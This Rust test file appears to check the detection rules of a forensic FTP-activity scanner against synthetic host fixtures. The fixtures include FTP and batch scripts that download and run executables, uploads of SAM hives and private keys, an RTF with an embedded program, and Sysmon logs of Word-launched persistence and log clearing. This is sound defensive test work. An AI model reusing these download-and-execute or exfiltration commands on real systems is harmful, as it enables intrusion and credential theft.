//! The rules, one by one: what sets each off and what does not.

use crate::support::{case, testdata};
use ftpsift::finding::rules::RULES;
use std::collections::BTreeSet;

/// Files of a host, and the rules that must and must not speak.
struct Matter {
    about: &'static str,
    files: Vec<(&'static str, Vec<u8>)>,
    speak: &'static [&'static str],
    silent: &'static [&'static str],
}

fn matter(
    about: &'static str,
    files: &[(&'static str, &[u8])],
    speak: &'static [&'static str],
    silent: &'static [&'static str],
) -> Matter {
    Matter { about, files: files.iter().map(|(path, content)| (*path, content.to_vec())).collect(), speak, silent }
}

/// A record of Sysmon as a line of an export.
pub(crate) fn sysmon(event_id: u32, time: &str, data: &[(&str, &str)]) -> String {
    let mut fields = serde_json::Map::new();
    fields.insert("UtcTime".to_owned(), time.into());
    fields.extend(data.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())));
    let (provider, channel) = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational");
    record(provider, channel, event_id, time, &fields.into())
}

pub(crate) fn record(provider: &str, channel: &str, event_id: u32, time: &str, data: &serde_json::Value) -> String {
    let time = format!("{}Z", time.replace(' ', "T"));
    let system = serde_json::json!({
        "Provider": { "#attributes": { "Name": provider } }, "EventID": event_id, "Channel": channel, "Computer": "PC1",
        "EventRecordID": event_id, "TimeCreated": { "#attributes": { "SystemTime": time } },
    });
    format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } }))
}

/// A host whose log tells of a client under another name, below Word, of what it fetched, started and left behind.
pub(crate) fn recorded() -> Vec<(&'static str, Vec<u8>)> {
    let guid = |number: u32| format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}");
    let (word, client, fetched) = (guid(1), guid(2), guid(3));
    let start = |time: &str, own: &str, image: &str, original: &str, line: &str, parent: &str, above: &str| {
        let data = [
            ("ProcessGuid", own),
            ("ProcessId", "10"),
            ("Image", image),
            ("OriginalFileName", original),
            ("CommandLine", line),
            ("CurrentDirectory", "C:\\Users\\Public\\"),
            ("User", "PC1\\kim"),
            ("ParentProcessGuid", parent),
            ("ParentImage", above),
        ];
        sysmon(1, time, &data)
    };
    let (office, tool, program) =
        ("C:\\Program Files\\Office\\WINWORD.EXE", "C:\\Users\\Public\\u.exe", "C:\\Users\\Public\\a.exe");
    let log = [
        start("2024-05-12 10:00:00.000", &word, office, "WinWord.exe", "WINWORD.EXE a.docm", &guid(9), "C:\\e.exe"),
        start("2024-05-12 10:00:05.000", &client, tool, "ftp.exe", "u.exe -n -s:a.txt", &word, office),
        sysmon(
            11,
            "2024-05-12 10:00:07.000",
            &[("ProcessGuid", &client), ("Image", tool), ("TargetFilename", program)],
        ),
        start("2024-05-12 10:00:09.000", &fetched, program, "-", "a.exe", &word, office),
        sysmon(
            13,
            "2024-05-12 10:00:10.000",
            &[
                ("EventType", "SetValue"),
                ("ProcessGuid", &fetched),
                ("Image", program),
                ("TargetObject", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a"),
                ("Details", program),
            ],
        ),
        record(
            "Microsoft-Windows-Eventlog",
            "Security",
            1102,
            "2024-05-12 11:00:00.000",
            &serde_json::json!({ "SubjectUserName": "kim" }),
        ),
    ];
    let script = b"open 192.0.2.1\nuser bob pw\nbinary\nget a.exe\nbye\n".to_vec();
    vec![
        ("Windows/System32/x.ini", Vec::new()),
        ("Users/Public/a.txt", script),
        ("Users/Public/a.exe", b"MZ".to_vec()),
        ("Windows/Temp/sysmon.jsonl", log.concat().into_bytes()),
    ]
}

const FTP: &str = "C:\\Windows\\System32\\ftp.exe";

/// A start of a client under another name.
fn renamed(line: &str) -> Vec<u8> {
    let data = [("Image", "C:\\Users\\Public\\svc.exe"), ("OriginalFileName", "ftp.exe"), ("CommandLine", line)];
    sysmon(1, "2024-05-12 10:00:00.000", &data).into_bytes()
}

/// A host whose log tells what somebody did with a client by hand: where it went, what it made, what it started.
fn typed(client: &str, line: &str, files: &[&str], child: &str) -> Vec<u8> {
    let guid = |number: u32| format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}");
    let (own, below) = (guid(2), guid(3));
    let by = |more: &[(&'static str, &str)]| -> Vec<(&'static str, String)> {
        let process = [("ProcessGuid", own.as_str()), ("ProcessId", "10"), ("Image", client), ("User", "PC1\\kim")];
        process.iter().chain(more).map(|(name, value)| (*name, (*value).to_owned())).collect()
    };
    let event = |number: u32, second: u32, data: Vec<(&'static str, String)>| {
        let data: Vec<(&str, &str)> = data.iter().map(|(name, value)| (*name, value.as_str())).collect();
        sysmon(number, &format!("2024-05-12 10:00:{second:02}.000"), &data)
    };
    let above = ("ParentImage", "C:\\Windows\\explorer.exe");
    let mut log = event(1, 0, by(&[("CommandLine", line), ("CurrentDirectory", "C:\\Users\\kim\\"), above]));
    let ends =
        [("SourceIp", "10.0.0.5"), ("SourcePort", "50000"), ("DestinationIp", "45.33.1.2"), ("DestinationPort", "21")];
    log += &event(3, 2, by(&[&[("Initiated", "true"), ("Protocol", "tcp")], ends.as_slice()].concat()));
    for file in files {
        log += &event(11, 5, by(&[("TargetFilename", file)]));
    }
    if !child.is_empty() {
        let data = [
            ("ProcessGuid", below.as_str()),
            ("ProcessId", "11"),
            ("Image", child),
            ("ParentProcessGuid", own.as_str()),
            ("ParentProcessId", "10"),
            ("ParentImage", client),
        ];
        log += &event(1, 9, data.iter().map(|(name, value)| (*name, (*value).to_owned())).collect());
    }
    log.into_bytes()
}

/// A program with an export table that gives it a name.
fn exporting(name: &str, program: &[u8]) -> Vec<u8> {
    let mut file = program.to_vec();
    let word = |file: &[u8], at: usize| u32::from_le_bytes(file[at..at + 4].try_into().unwrap()) as usize;
    let header = word(&file, 0x3c);
    let (sections, optional) = (usize::from(file[header + 6]), word(&file, header + 20) & 0xffff);
    let last = header + 24 + optional + (sections - 1) * 40;
    let (address, raw, size) = (word(&file, last + 12), word(&file, last + 20), word(&file, last + 16));
    let used = file[raw..raw + size].iter().rposition(|byte| *byte != 0).map_or(0, |at| (at + 17) & !15);
    assert!(used + 40 + name.len() < size, "the last section has no room");
    let table = (address + used) as u32;
    let mut directory = vec![0u8; 40];
    directory[12..16].copy_from_slice(&(table + 40).to_le_bytes());
    directory.extend_from_slice(name.as_bytes());
    file[raw + used..raw + used + directory.len()].copy_from_slice(&directory);
    file[header + 24 + 112..][..8].copy_from_slice(&[table.to_le_bytes(), 40u32.to_le_bytes()].concat());
    file[last + 8..last + 12].copy_from_slice(&(size as u32).to_le_bytes());
    file
}

fn hexadecimal(bytes: &[u8]) -> Vec<u8> {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>().into_bytes()
}

/// A text with an object that is a file.
fn carrying(name: &str) -> Vec<u8> {
    let path = format!("C:\\{name}");
    let mut native = vec![2, 0];
    for text in [name, &path] {
        native.extend_from_slice(text.as_bytes());
        native.push(0);
    }
    native.extend_from_slice(&[0, 0, 3, 0]);
    native.extend_from_slice(&(path.len() as u32 + 1).to_le_bytes());
    native.extend_from_slice(path.as_bytes());
    native.push(0);
    native.extend_from_slice(&4u32.to_le_bytes());
    native.extend_from_slice(b"MZ\0\0");
    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0];
    object.extend_from_slice(b"Package\0\0\0\0\0\0\0\0\0");
    object.extend_from_slice(&(native.len() as u32).to_le_bytes());
    object.extend_from_slice(&native);
    format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}}}}}}}", String::from_utf8(hexadecimal(&object)).unwrap())
        .into_bytes()
}

/// A ZIP archive of one stored member, `a.csv`, with the general purpose flags.
fn zip(flags: u16) -> Vec<u8> {
    let (name, content) = (b"a.csv", b"a;b\n");
    let mut crc = flate2::Crc::new();
    crc.update(content);
    let header = [
        &20u16.to_le_bytes()[..],
        &flags.to_le_bytes(),
        &[0; 6],
        &crc.sum().to_le_bytes(),
        &(content.len() as u32).to_le_bytes(),
        &(content.len() as u32).to_le_bytes(),
        &(name.len() as u16).to_le_bytes(),
        &[0; 2],
    ]
    .concat();
    let local = [b"PK\x03\x04", &header[..], name, content].concat();
    let central = [b"PK\x01\x02\x14\0", &header[..], &[0; 14], name].concat();
    let numbers = [1u16.to_le_bytes(), 1u16.to_le_bytes()].concat();
    let places = [(central.len() as u32).to_le_bytes(), (local.len() as u32).to_le_bytes()].concat();
    let end = [b"PK\x05\x06\0\0\0\0", &numbers[..], &places, &[0; 2]].concat();
    [local, central, end].concat()
}

fn matters() -> Vec<Matter> {
    let unsigned = std::fs::read(testdata("host/Windows/Temp/nc.exe")).unwrap();
    let signed = std::fs::read(testdata("signed/sha256.exe")).unwrap();
    let tampered = std::fs::read(testdata("signed/tampered.exe")).unwrap();
    let garbled = std::fs::read(testdata("signed/garbled.exe")).unwrap();
    let dense: Vec<u8> = (0..9000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let fetch = |name: &str| format!("open 192.0.2.1\nuser bob pw\nbinary\nget {name}\nbye\n").into_bytes();
    let fetched = |about, name: &'static str, content: &[u8], speak, silent| {
        matter(about, &[("a.txt", &fetch(name)), (name, content)], speak, silent)
    };
    let of_signed = |name: &str| std::fs::read(testdata("signed").join(name)).unwrap();
    let valid = of_signed("sha256.exe");
    let converted: Vec<u8> =
        valid.iter().flat_map(|byte| if *byte == b'\n' { vec![b'\r', b'\n'] } else { vec![*byte] }).collect();
    let hive = [b"regf\x01\0\0\0\x01\0\0\0".as_slice(), &[0; 4084]].concat();
    let sent = |about, name: &'static str, content: &[u8], speak, silent| {
        let put = format!("open 192.0.2.1\nuser bob pw\nbinary\nput {name}\nbye\n").into_bytes();
        matter(about, &[("a.txt", &put), (name, content)], speak, silent)
    };
    vec![
        fetched(
            "a program that ASCII mode damaged",
            "a.exe",
            &converted,
            &["payload.ascii-damage"],
            &["payload.hidden-executable"],
        ),
        fetched("the same, not damaged", "a.exe", &valid, &["payload.untrusted-signature"], &["payload.ascii-damage"]),
        fetched(
            "a signature of another",
            "a.exe",
            &of_signed("tampered-signature.exe"),
            &["payload.forged-signature"],
            &["payload.tampered-executable"],
        ),
        fetched(
            "bytes behind a signature",
            "a.exe",
            &of_signed("padding.exe"),
            &["payload.stuffed-signature"],
            &["payload.forged-signature"],
        ),
        fetched(
            "a program under another name than its own",
            "a.exe",
            &exporting("tool.dll", &unsigned),
            &["payload.renamed-program"],
            &[],
        ),
        fetched(
            "a program under its own name",
            "tool.dll",
            &exporting("tool.dll", &unsigned),
            &[],
            &["payload.renamed-program"],
        ),
        fetched(
            "a program as numbers",
            "b.txt",
            &hexadecimal(&valid),
            &["payload.hidden-executable"],
            &["payload.ascii-damage"],
        ),
        fetched("numbers that are no program", "a.dat", &hexadecimal(&dense), &[], &["payload.hidden-executable"]),
        fetched(
            "a document that carries a program",
            "a.rtf",
            &carrying("run.exe"),
            &["payload.active-document"],
            &["payload.encrypted"],
        ),
        fetched("a document that carries none", "a.rtf", b"{\\rtf1 text}", &[], &["payload.active-document"]),
        sent("an encrypted archive", "a.zip", &zip(1), &["payload.encrypted"], &["payload.credential-store"]),
        sent("an archive", "a.zip", &zip(0), &["transfer.upload"], &["payload.encrypted"]),
        sent("the accounts", "sam.save", &hive, &["payload.credential-store"], &["payload.private-key"]),
        sent("another hive", "usrclass.dat", &hive, &["transfer.upload"], &["payload.credential-store"]),
        fetched("the accounts, fetched", "sam.save", &hive, &[], &["payload.credential-store"]),
        sent(
            "a key",
            "id.pem",
            b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
            &["payload.private-key"],
            &[],
        ),
        sent("mail", "a.pst", b"!BDN\0\0\0\0SM\x17\0", &["payload.mail-store"], &["payload.memory-dump"]),
        sent("memory", "l.dmp", b"MDMP\x93\xa7\0\0\x10\0\0\0", &["payload.memory-dump"], &["payload.mail-store"]),
        matter(
            "a login, a download, nothing else",
            &[("a.txt", &fetch("list.csv")), ("list.csv", b"a;b\n")],
            &["script.credentials", "transfer.download"],
            &[
                "transfer.upload",
                "payload.missing",
                "session.anonymous",
                "session.nonstandard-port",
                "payload.type-mismatch",
            ],
        ),
        matter(
            "an upload to a public address on another port, anonymously",
            &[("a.txt", b"open 8.8.4.4 2121\nuser anonymous a@b.example\nput list.csv\nbye\n"), ("list.csv", b"a;b\n")],
            &["transfer.upload", "session.raw-public-address", "session.nonstandard-port", "session.anonymous"],
            &["script.credentials", "transfer.download"],
        ),
        matter(
            "a private address is no public one",
            &[("a.txt", b"open 10.0.0.1\nuser a b\nput list.csv\nbye\n")],
            &["transfer.upload"],
            &["session.raw-public-address", "session.nonstandard-port"],
        ),
        matter(
            "a script in a temporary folder",
            &[("Windows/System32/x.ini", b""), ("Windows/Temp/a.txt", &fetch("a.csv"))],
            &["script.writable-folder", "payload.missing"],
            &["launch.script-gone"],
        ),
        matter(
            "ASCII mode damages programs, not tables",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nget a.exe\nget a.csv\nbye\n")],
            &["transfer.ascii-executable"],
            &[],
        ),
        matter("binary mode damages nothing", &[("a.txt", &fetch("a.exe"))], &[], &["transfer.ascii-executable"]),
        matter(
            "a batch file runs what its script fetched",
            &[("a.txt", &fetch("a.exe")), ("go.bat", b"ftp -n -s:a.txt\r\nstart a.exe /q\r\n")],
            &["script.executes-download"],
            &["launch.script-gone", "script.shell-escape"],
        ),
        matter(
            "the client's shell runs it",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nget a.exe\n!a.exe /q\nbye\n")],
            &["script.executes-download", "script.shell-escape"],
            &[],
        ),
        matter(
            "a script that is gone",
            &[("go.bat", b"ftp -n -s:gone.txt\r\n")],
            &["launch.script-gone"],
            &["payload.missing"],
        ),
        matter(
            "a launch that is commented out",
            &[("go.bat", b"rem ftp -n -s:gone.txt\r\n")],
            &[],
            &["launch.script-gone"],
        ),
        matter(
            "another login than meant",
            &[("a.txt", b"open 192.0.2.1\nUSER bob\nPASS secret\nget a.csv\nbye\n"), ("go.bat", b"ftp -s:a.txt\r\n")],
            &["session.intended-login-differs", "script.credentials"],
            &[],
        ),
        fetched(
            "an unsigned program",
            "a.exe",
            &unsigned,
            &["payload.unsigned-executable"],
            &["payload.tampered-executable"],
        ),
        fetched(
            "a signed program",
            "a.exe",
            &signed,
            &[],
            &[
                "payload.unsigned-executable",
                "payload.tampered-executable",
                "payload.malformed-signature",
                "payload.type-mismatch",
            ],
        ),
        fetched(
            "a changed program",
            "a.exe",
            &tampered,
            &["payload.tampered-executable"],
            &["payload.unsigned-executable"],
        ),
        fetched(
            "a garbled signature",
            "a.exe",
            &garbled,
            &["payload.malformed-signature"],
            &["payload.tampered-executable"],
        ),
        fetched("a program as a picture", "a.jpg", &unsigned, &["payload.type-mismatch"], &["payload.deceptive-name"]),
        fetched("two extensions", "a.pdf.exe", &unsigned, &["payload.deceptive-name"], &["payload.type-mismatch"]),
        fetched("dense bytes", "a.bin", &dense, &["payload.high-entropy"], &["payload.type-mismatch"]),
        matter(
            "an uploaded program need not be signed",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nbinary\nput a.exe\nbye\n"), ("a.exe", &unsigned)],
            &["transfer.upload"],
            &["payload.unsigned-executable"],
        ),
        Matter {
            about: "a renamed client below Word, and what became of what it fetched",
            files: recorded(),
            speak: &[
                "run.renamed-client",
                "run.unusual-parent",
                "payload.executed",
                "payload.persisted",
                "log.cleared",
                "transfer.download",
            ],
            silent: &["launch.script-gone", "run.download", "run.child-process", "run.public-address"],
        },
        matter(
            "what somebody did with a client by hand",
            &[(
                "log.jsonl",
                &typed(FTP, "ftp 45.33.1.2", &["C:\\Users\\kim\\e.exe"], "C:\\Windows\\System32\\cmd.exe"),
            )],
            &["run.download", "run.child-process", "run.public-address"],
            &["launch.script-gone", "payload.executed", "session.raw-public-address"],
        ),
        matter(
            "a client that goes to a name and whose console is another process",
            &[("log.jsonl", &typed(FTP, "ftp ftp.example", &[], "C:\\Windows\\System32\\conhost.exe"))],
            &[],
            &["run.download", "run.child-process", "run.public-address"],
        ),
        matter(
            "what a client keeps for itself",
            &[(
                "log.jsonl",
                &typed(
                    "C:\\Program Files\\FileZilla FTP Client\\filezilla.exe",
                    "filezilla.exe",
                    &["C:\\Users\\kim\\AppData\\Roaming\\FileZilla\\queue.sqlite3"],
                    "C:\\Program Files\\FileZilla FTP Client\\fzsftp.exe",
                ),
            )],
            &["run.public-address"],
            &["run.download", "run.child-process"],
        ),
        matter(
            "what a script at hand says of the same run",
            &[
                ("Windows/System32/x.ini", b""),
                ("Users/kim/s.txt", b"open 45.33.1.2\nuser bob pw\nbinary\nget e.exe\n!whoami\nbye\n"),
                (
                    "Windows/Temp/log.jsonl",
                    &typed(
                        FTP,
                        "ftp -n -s:C:\\Users\\kim\\s.txt",
                        &["C:\\Users\\kim\\e.exe"],
                        "C:\\Windows\\System32\\cmd.exe",
                    ),
                ),
            ],
            &["transfer.download", "script.shell-escape", "session.raw-public-address"],
            &["run.download", "run.child-process", "run.public-address", "launch.script-gone"],
        ),
        matter(
            "a client under another name whose script is gone",
            &[("log.jsonl", &renamed("svc.exe -s:C:\\Users\\Public\\q.txt"))],
            &["launch.script-gone", "run.renamed-client"],
            &["run.download"],
        ),
        Matter {
            about: "the same host without its log",
            files: recorded().into_iter().filter(|(path, _)| !path.contains("sysmon")).collect(),
            speak: &["transfer.download"],
            silent: &[
                "run.renamed-client",
                "run.unusual-parent",
                "payload.executed",
                "payload.persisted",
                "log.cleared",
            ],
        },
        matter(
            "prose",
            &[("a.txt", b"open the door and get coffee, bye")],
            &[],
            &["script.credentials", "transfer.download"],
        ),
    ]
}

#[test]
fn rules_speak_when_they_should_and_only_then() {
    for matter in matters() {
        let case = case(matter.files);
        let spoken: BTreeSet<&str> = case.findings.iter().map(|finding| finding.rule.as_str()).collect();
        for rule in matter.speak {
            assert!(spoken.contains(rule), "{}: {rule} is silent; {spoken:?}", matter.about);
        }
        for rule in matter.silent {
            assert!(!spoken.contains(rule), "{}: {rule} speaks; {:#?}", matter.about, case.findings);
        }
        assert_eq!(case.scan.counts.findings, case.findings.len() as u64);
    }
}

#[test]
fn techniques_are_those_of_what_runs_the_commands() {
    let fetch = "open 192.0.2.1\\nuser bob pw\\nbinary\\nget x.sh\\nbye\\n";
    let shell = format!("#!/bin/sh\nprintf '{fetch}' | ftp -n\nsh x.sh\n");
    let batch = b"@echo open 192.0.2.1> s.txt\r\n@echo user bob pw>> s.txt\r\n@echo get x.exe>> s.txt\r\n@ftp -n -s:s.txt\r\nx.exe\r\n";
    let cases: [(&str, &[u8], &str, &[&str]); 3] = [
        ("etc/cron.daily/x", shell.as_bytes(), "script.executes-download", &["T1105", "T1059.004"]),
        ("x.bat", batch, "script.executes-download", &["T1105", "T1059.003"]),
        ("Windows/Temp/s.txt", b"open 192.0.2.1\nuser bob pw\nbinary\nget x.exe\nbye\n", "script.writable-folder", &[]),
    ];
    for (path, content, rule, techniques) in cases {
        let case = case([(path, content)]);
        let found: Vec<_> = case.findings.iter().filter(|finding| finding.rule == rule).collect();
        assert!(!found.is_empty(), "{path}: {:?}", case.findings);
        for finding in found {
            let shown: Vec<&str> = finding.attack.iter().map(|attack| attack.technique).collect();
            assert_eq!(shown, techniques, "{path}");
        }
    }
}

#[test]
fn every_rule_is_shown_to_speak() {
    let shown: BTreeSet<&str> = matters().iter().flat_map(|matter| matter.speak.iter().copied()).collect();
    for rule in RULES {
        assert!(shown.contains(rule.id), "{} is never shown to speak", rule.id);
    }
}

#[test]
fn findings_refer_to_records_of_the_case() {
    for matter in matters() {
        let case = case(matter.files);
        let report = serde_json::to_string(&case).unwrap();
        for finding in &case.findings {
            for id in &finding.evidence_refs {
                assert!(report.contains(&format!("\"id\":\"{id}\"")), "{}: {id}", finding.rule);
            }
        }
    }
}
